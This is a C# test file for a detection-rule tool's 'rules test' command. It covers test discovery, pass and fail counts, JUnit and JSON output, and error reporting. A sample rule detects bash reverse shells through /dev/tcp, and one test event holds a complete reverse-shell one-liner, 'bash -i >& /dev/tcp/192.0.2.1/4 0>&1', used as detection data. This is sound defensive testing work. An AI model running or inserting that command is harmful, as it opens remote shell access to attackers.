using System.Text.Json;
using System.Xml.Linq;

namespace Picket.Spec.Cli;

/// <summary><c>picket rules test</c> as authors of rules and their pipelines call it.</summary>
public sealed class RulesTestSpec : IDisposable
{
    private const string Rule = """
        title: Shell
        id: 5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b11
        logsource: { product: linux, category: process_creation }
        detection:
          sel:
            Image|endswith: /bash
            CommandLine|contains:
              - /dev/tcp
              - /dev/udp
          quiet:
            User: backup
          condition: sel and not quiet

        """;

    private readonly RuleFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("")]
    [InlineData("tests: []\n")]
    [InlineData("# later\n")]
    public async Task A_file_without_a_test_passes_nothing(string text)
    {
        _folder.Write("a.yml", Rule);
        _folder.Write("a.test.yml", text);
        var result = await Cli.RunAsync("rules", "test", _folder.Path);
        Assert.Equal(1, result.Code);
        Assert.Contains("there is no test in the file", result.Error);
    }

    [Fact]
    public async Task What_is_named_twice_is_run_once()
    {
        var rule = _folder.Write("d/a.yml", Rule);
        var test = _folder.Write("d/a.test.yml", "event: { Image: /bin/bash, CommandLine: /dev/tcp }\n");
        var more = _folder.Write("d/a_test.yml", "match: false\nevent: { Image: /bin/bash }\n");
        _folder.Write("d/b.yml", Rule.Replace("2b11", "2b12", StringComparison.Ordinal));
        var (folder, link) = (Path.Combine(_folder.Path, "d"), Path.Combine(_folder.Path, "link"));
        Directory.CreateSymbolicLink(link, folder);
        foreach (var paths in (string[][])[[folder, folder], [_folder.Path, folder], [folder, link], [rule, folder, test], [more, folder]])
        {
            var result = await Cli.RunAsync(["rules", "test", .. paths]);
            Assert.Equal("2 tests of 1 files of rules: 2 passed, 0 failed, 0 errors; 1 files of rules without tests\n", result.Out);
            result.IsDone();
        }

        Assert.StartsWith("2 tests of 1 files of rules: 2 passed", (await Cli.RunAsync("rules", "test", test, more, test)).Out);
        Assert.StartsWith("1 tests of 1 files of rules: 1 passed", (await Cli.RunAsync("rules", "test", more, more)).Out);
    }

    [Fact]
    public async Task The_tests_of_a_file_of_rules_that_is_empty_do_not_pass()
    {
        var rule = _folder.Write("a.yml", "");
        _folder.Write("a.test.yml", "event: { Image: /bin/bash }\n");
        var result = await Cli.RunAsync("rules", "test", _folder.Path);
        Assert.Equal((1, $"picket: {rule}(0,0): error file: the file is empty, and has tests\n"), (result.Code, result.Error));
    }

    [Fact]
    public async Task Tests_that_pass_are_status_0_and_one_line_of_counts()
    {
        _folder.Write("a.yml", Rule);
        _folder.Write("a.test.yml", """
            tests:
              - name: a shell
                event: { Image: /bin/bash, CommandLine: 'bash -i >& /dev/tcp/192.0.2.1/4 0>&1', ProcessId: 7 }
              - name: others
                match: false
                events:
                  - { Image: /bin/ls }
                  - { Image: /bin/bash, CommandLine: /dev/tcp, User: backup }
                  - { logsource: { product: windows }, Image: /bin/bash, CommandLine: /dev/tcp }
              - events: recorded.json
                count: 2
              - match: false
                event: 'Nov 21 15:30:25 web1 sshd[12]: /bin/bash /dev/tcp'
            """);
        _folder.Write("recorded.json", """[{"Image":"/bin/bash","CommandLine":"/dev/tcp"},{"Image":"/bin/sh"},{"Image":"/x/bash","CommandLine":"/dev/udp"}]""");
        _folder.Write("b.yml", Rule.Replace("2b11", "2b12", StringComparison.Ordinal));
        _folder.Write("b_test.yml", "event:\n  Image: /bin/bash\n  CommandLine: /dev/tcp\n---\nmatch: false\nevent:\n  Image: /bin/bash\n");
        _folder.Write("c.yml", Rule.Replace("2b11", "2b13", StringComparison.Ordinal));
        var result = await Cli.RunAsync("rules", "test", _folder.Path);
        result.IsDone();
        Assert.Equal("6 tests of 2 files of rules: 6 passed, 0 failed, 0 errors; 1 files of rules without tests\n", result.Out);
        result = await Cli.RunAsync("rules", "test", Path.Combine(_folder.Path, "b_test.yml"));
        Assert.StartsWith("2 tests of 1 files of rules: 2 passed", result.Out);

        // Neither kind of test is taken for a rule.
        result = await Cli.RunAsync("rules", "check", "--platform", "linux", _folder.Path);
        result.IsDone();
        Assert.StartsWith("3 rules for linux: ", result.Out);
    }

    [Fact]
    public async Task A_test_that_fails_is_status_1_and_says_which_item_of_which_selection_does_not_hold()
    {
        _folder.Write("a.yml", Rule);
        var test = _folder.Write("a.test.yml", """
            tests:
              - name: wrong program
                event: { Image: /bin/zsh, CommandLine: /dev/tcp }
              - name: quiet
                match: false
                event: { Image: /bin/bash, CommandLine: /dev/tcp/x }
              - { name: none, events: [{ Image: /bin/bash }, { Image: /bin/bash, CommandLine: /dev/tcp }] }
              - { name: elsewhere, event: { logsource: { product: linux, category: file_event }, Image: /bin/bash } }
              - { name: broken, event: 'type=' }
              - { name: gone, events: gone.json }
              - { name: fine, event: { Image: /bin/bash, CommandLine: /dev/tcp } }
            """);
        var junit = Path.Combine(_folder.Path, "junit.xml");
        var result = await Cli.RunAsync("rules", "test", "--junit", junit, _folder.Path);
        Assert.Equal(1, result.Code);
        Assert.Contains($"{test}(2,5): failed: wrong program: the event does not match\n    Shell (5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b11):\n      sel: does not hold\n        6:5 Image|endswith: '/bash': the event has '/bin/zsh'\n", result.Out);
        Assert.Contains($"{test}(4,5): failed: quiet: the event matches, and must not\n", result.Out);
        Assert.Contains("      sel: CommandLine = /dev/tcp/x\n", result.Out);
        Assert.Contains($"{test}(7,5): failed: none: 1 of 2 events: does not match\n", result.Out);
        Assert.Contains("        7:5 CommandLine|contains: '/dev/tcp', '/dev/udp': the event does not have the field\n", result.Out);
        Assert.Contains("the rule is not asked about this event, whose log source is linux/file_event/*\n", result.Out);
        Assert.Contains("failed: gone: Could not find file", result.Out);
        Assert.EndsWith("7 tests of 1 files of rules: 1 passed, 6 failed, 0 errors; 0 files of rules without tests\n", result.Out);

        Assert.Equal((byte)'<', File.ReadAllBytes(junit)[0]);
        var suite = Assert.Single(XDocument.Load(junit).Root!.Elements());
        Assert.Equal(("7", "6"), (suite.Attribute("tests")!.Value, suite.Attribute("failures")!.Value));
        Assert.Equal(6, suite.Elements("testcase").Elements("failure").Count());

        result = await Cli.RunAsync("rules", "test", "--json", _folder.Path);
        Assert.Equal(1, result.Code);
        using var document = JsonDocument.Parse(result.Out);
        Assert.Equal((1, 6), (document.RootElement.GetProperty("passed").GetInt32(), document.RootElement.GetProperty("failed").GetInt32()));
        var first = document.RootElement.GetProperty("tests")[0];
        Assert.Equal((2, 5, "wrong program"), (first.GetProperty("line").GetInt32(), first.GetProperty("column").GetInt32(), first.GetProperty("name").GetString()));
        Assert.False(first.GetProperty("answer").GetProperty("selections")[0].GetProperty("alternatives")[0][0].GetProperty("holds").GetBoolean());
    }

    [Fact]
    public async Task What_is_wrong_with_a_test_is_named_at_its_place_and_the_others_run()
    {
        var rule = _folder.Write("a.yml", Rule);
        var test = _folder.Write("a.test.yml", """
            tests:
              - { name: fine, event: { Image: /bin/bash, CommandLine: /dev/tcp } }
              - { evnt: {} }
              - { match: perhaps, event: {} }
              - { event: {}, events: [] }
              - { match: false, count: 2, event: {} }
            ---
            - 5
            ---
            tests: [
            """);
        var orphan = _folder.Write("gone.test.yml", "event: {}\n");
        var result = await Cli.RunAsync("rules", "test", _folder.Path);
        Assert.Equal(1, result.Code);
        var errors = result.Error.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        string[] places =
        [
            $"{test}(3,7): error value", $"{test}(4,14): error value", $"{test}(5,5): error missing-key", $"{test}(6,21): error value",
            $"{test}(8,1): error type", $"{test}(10,9): error yaml", $"{orphan}(0,0): error file",
        ];
        Assert.Equal(places.Length, errors.Length);
        for (var i = 0; i < places.Length; i++) Assert.StartsWith($"picket: {places[i]}", errors[i]);
        Assert.Equal("1 tests of 1 files of rules: 1 passed, 0 failed, 7 errors; 0 files of rules without tests\n", result.Out);

        File.WriteAllText(rule, Rule.Replace("endswith", "endswit", StringComparison.Ordinal));
        result = await Cli.RunAsync("rules", "test", Path.Combine(_folder.Path, "a.yml"));
        Assert.Contains($"picket: {rule}(6,5): error unknown-modifier: ", result.Error);
        Assert.Contains("failed: fine: there is no sound rule to test", result.Out);
    }

    [Fact]
    public async Task What_a_case_demands_is_demanded()
    {
        _folder.Write("a.yml", Rule.Replace("title: Shell", "title: Shell\nname: bash", StringComparison.Ordinal)
            + "---\ntitle: Void\nid: 5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b12\nlogsource: { product: linux }\ndetection:\n  s: { Gone: null, Here|exists: true }\n  condition: s\n");
        _folder.Write("shells.json", string.Concat(Enumerable.Repeat("""{"Image":"/bin/bash","CommandLine":"/dev/tcp"}""" + "\n", 3)));
        _folder.Write("others.json", """{"Image":"/bin/ls"}""");
        _folder.Write("broken.json", """{"Image":"/bin/bash","CommandLine":"/dev/tcp"}""" + "\n{");
        _folder.Write("empty.json", "");
        var test = _folder.Write("a.test.yml", """
            tests:
              - { name: too many, events: shells.json, count: 2 }
              - { name: too few, events: shells.json, count: 4 }
              - { name: none, events: others.json }
              - { name: broken, events: broken.json }
              - { name: empty, match: false, events: empty.json }
              - { name: nobody, rule: zsh, event: { Image: /bin/bash } }
              - { name: zero, count: 0, event: { Image: /bin/bash } }
              - { name: title, rule: Shell, event: { Image: /bin/bash, CommandLine: /dev/tcp } }
              - { name: name, rule: bash, event: { Image: /bin/bash, CommandLine: /dev/tcp } }
              - { name: id, rule: 5B0C7E0E-52ea-4be7-9c0f-6f0c8d5c2b11, event: { Image: /bin/bash, CommandLine: /dev/tcp } }
              - { name: 'null', rule: Void, event: { Gone: ~, Here: x } }
              - { name: text, rule: Void, match: false, events: [{ Gone: '~', Here: x }, { Gone: 'null', Here: x }, { Gone: '', Here: x }] }
            """);
        _folder.Write("a_test.yaml", """
            rule: Void
            tests:
              - { name: of the file, match: false, event: { Image: /bin/bash, CommandLine: /dev/tcp } }
              - { name: of its own, rule: Shell, event: { Image: /bin/bash, CommandLine: /dev/tcp } }
            """);
        var result = await Cli.RunAsync("rules", "test", Path.Combine(_folder.Path, "a.yml"));
        Assert.Equal(1, result.Code);
        Assert.Contains("failed: too many: 3 of 3 events match, not 2\n", result.Out, StringComparison.Ordinal);
        Assert.Contains("failed: too few: 3 of 3 events match, not 4\n", result.Out, StringComparison.Ordinal);
        Assert.Contains("failed: none: none of 1 events matches\n", result.Out, StringComparison.Ordinal);
        Assert.Contains("broken.json:2:", result.Out, StringComparison.Ordinal);
        Assert.Contains("failed: empty: there is no event\n", result.Out, StringComparison.Ordinal);
        Assert.Contains("failed: nobody: no rule is called 'zsh'\n", result.Out, StringComparison.Ordinal);
        Assert.Equal($"picket: {test}(8,26): error value: ", result.Error[..($"picket: {test}(8,26): error value: ".Length)]);
        Assert.EndsWith("13 tests of 1 files of rules: 7 passed, 6 failed, 1 errors; 0 files of rules without tests\n", result.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_rule_without_values_for_its_placeholder_says_so()
    {
        _folder.Write("a.yml", Rule.Replace("User: backup", "User|expand: '%backup%'", StringComparison.Ordinal));
        _folder.Write("a.test.yml", "event: { Image: /bin/bash, CommandLine: /dev/tcp }\n");
        var result = await Cli.RunAsync("rules", "test", _folder.Path);
        Assert.Equal(1, result.Code);
        Assert.Contains("      the rule failed: no pipeline gives values for %backup%, so that it takes no part\n", result.Out);
    }

    [Theory]
    [InlineData("condition-allofpattern")]
    [InlineData("condition-allofthem")]
    public async Task The_tests_that_sigma_test_has_of_its_own_pass(string name)
    {
        // Its rules have no title and no log source, which Sigma demands.
        var corpus = Corpora.Require("sigma-tests/sigma-test/testdata");
        _folder.Write($"{name}.yaml", $"title: {name}\nlogsource: {{ product: test }}\n{File.ReadAllText(Path.Combine(corpus, name + ".yaml"))}");
        File.Copy(Path.Combine(corpus, name + "_test.yaml"), Path.Combine(_folder.Path, name + "_test.yaml"));
        var result = await Cli.RunAsync("rules", "test", _folder.Path);
        Assert.Equal("5 tests of 1 files of rules: 5 passed, 0 failed, 0 errors; 0 files of rules without tests\n", result.Out);
        result.IsDone();
    }

    [Fact]
    public async Task A_rule_is_asked_about_the_events_of_a_file()
    {
        var rule = _folder.Write("a.yml", Rule);
        var quiet = _folder.Write("quiet.json", """{"Image":"/bin/ls","CommandLine":"ls"}""");
        var result = await Cli.RunAsync("rules", "test", rule, "--event", quiet);
        Assert.Equal(1, result.Code);
        Assert.Equal($"""
            {quiet}:1: does not match: Shell (5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b11)
                sel: does not hold
                  6:5 Image|endswith: '/bash': the event has '/bin/ls'
                  7:5 CommandLine|contains: '/dev/tcp', '/dev/udp': the event has 'ls'
                quiet: does not hold
                  11:5 User: 'backup': the event does not have the field
            1 events, 0 matches

            """, result.Out);

        var shell = _folder.Write("shell.json", """[{"Image":"/bin/ls"},{"Image":"/bin/bash","CommandLine":"x /dev/tcp"}]""");
        result = await Cli.RunAsync("rules", "test", rule, "--event", shell);
        result.IsDone();
        Assert.Contains($"{shell}:2: matches: Shell (5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b11)\n    sel: Image = /bin/bash\n    sel: CommandLine = x /dev/tcp\n", result.Out);
        Assert.EndsWith("2 events, 1 matches\n", result.Out);
        result = await Cli.RunAsync("rules", "test", rule, "--json", "--event", shell);
        result.IsDone();
        using var document = JsonDocument.Parse(result.Out);
        Assert.Equal([false, true], document.RootElement.GetProperty("answers").EnumerateArray().Select(answer => answer.GetProperty("answer").GetProperty("matches").GetBoolean()));
    }

    /// <summary>An expression without an end would be a rule that is switched off, which must not pass for one that stays silent.</summary>
    [Fact]
    public async Task A_rule_that_cannot_be_asked_fails_its_test_whatever_this_expects()
    {
        var rule = _folder.Write("a.yml", Rule.Replace("Image|endswith: /bash", "Image|re: '^(?=(a+)+$)b'", StringComparison.Ordinal));
        var slow = new string('a', 60) + "!b";
        _folder.Write("a.test.yml", $$"""
            tests:
              - { name: silent, match: false, event: { Image: '{{slow}}', CommandLine: /dev/tcp } }
              - { name: one of two, match: false, events: [{ Image: x, CommandLine: /dev/tcp }, { Image: '{{slow}}', CommandLine: /dev/tcp }] }
              - { name: fast, match: false, event: { Image: x, CommandLine: /dev/tcp } }
            """);
        var result = await Cli.RunAsync("rules", "test", _folder.Path);
        Assert.Equal(1, result.Code);
        Assert.Contains("failed: silent: the rule could not be asked\n    Shell (5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b11):\n      the rule failed: ", result.Out, StringComparison.Ordinal);
        Assert.Contains("failed: one of two: the rule could not be asked\n", result.Out, StringComparison.Ordinal);
        Assert.Contains("3 tests of 1 files of rules: 1 passed, 2 failed, 0 errors", result.Out, StringComparison.Ordinal);

        result = await Cli.RunAsync("rules", "test", rule, "--event", _folder.Write("slow.json", $$"""{"Image":"{{slow}}","CommandLine":"/dev/tcp"}"""));
        Assert.Equal(1, result.Code);
        Assert.Contains("the rule failed: ", result.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Wrong_usage_is_status_2()
    {
        var rule = _folder.Write("a.yml", Rule);
        var broken = _folder.Write("broken.json", "{\"Image\": nope}\n");
        (await Cli.RunAsync("rules", "test", rule, "--event", Path.Combine(_folder.Path, "gone"))).IsRefused(2, "no such file or folder");
        (await Cli.RunAsync("rules", "test", Path.Combine(_folder.Path, "gone"))).IsRefused(2, "no such file or folder");
        (await Cli.RunAsync("rules", "test", rule, "--event", _folder.Path)).IsRefused(2, $"--event {_folder.Path}: a folder, where a file is expected");
        (await Cli.RunAsync("rules", "test", rule, "--junit", _folder.Path)).IsRefused(2, _folder.Path);
        var result = await Cli.RunAsync("rules", "test", rule, "--event", broken);
        Assert.Equal(2, result.Code);
        Assert.Contains($"picket: {broken}:1:12: ", result.Error);
    }
}
